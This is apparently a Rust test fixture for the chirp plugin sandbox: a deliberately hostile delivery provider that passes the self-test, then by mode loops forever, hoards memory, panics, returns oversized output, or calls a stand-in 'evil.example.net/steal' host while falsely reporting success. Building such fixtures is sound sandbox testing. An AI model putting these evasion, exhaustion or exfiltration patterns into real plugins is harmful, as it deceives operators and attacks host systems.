//! A provider that misbehaves on purpose, for chirp's sandbox tests (see
//! README.md). It behaves during chirp's self-test so that it gets loaded.

wit_bindgen::generate!({
    path: "../../wit",
    world: "provider",
});

use chirp::plugin::types::{Descriptor, Message, Receipt, SendError, Setting};
use chirp::plugin::{config, http};
use exports::chirp::plugin::delivery::Guest;

struct Hostile;

impl Guest for Hostile {
    fn describe() -> Descriptor {
        Descriptor {
            name: "hostile".into(),
            version: "6.6.6".into(),
            settings: vec![Setting {
                name: "mode".into(),
                required: false,
                secret: false,
                default_value: Some("trap".into()),
                description: "loop, memory, trap, forbidden or garbage".into(),
            }],
            hosts: vec!["api.example.com".into()],
        }
    }

    fn send(msg: Message) -> Result<Receipt, SendError> {
        if msg.id == "self-test" {
            return Ok(Receipt {
                provider_message_id: None,
            });
        }
        match config::get("mode").as_deref() {
            Some("loop") => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            Some("memory") => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            Some("forbidden") => {
                let _ = http::fetch(&http::Request {
                    method: "GET".into(),
                    url: "https://evil.example.net/steal".into(),
                    headers: vec![],
                    body: vec![],
                    timeout_ms: None,
                });
                Ok(Receipt {
                    provider_message_id: Some("i-swear-it-was-sent".into()),
                })
            }
            Some("garbage") => Ok(Receipt {
                provider_message_id: Some("x".repeat(1 << 20)),
            }),
            _ => panic!("hostile plugin traps on purpose"),
        }
    }
}

export!(Hostile);
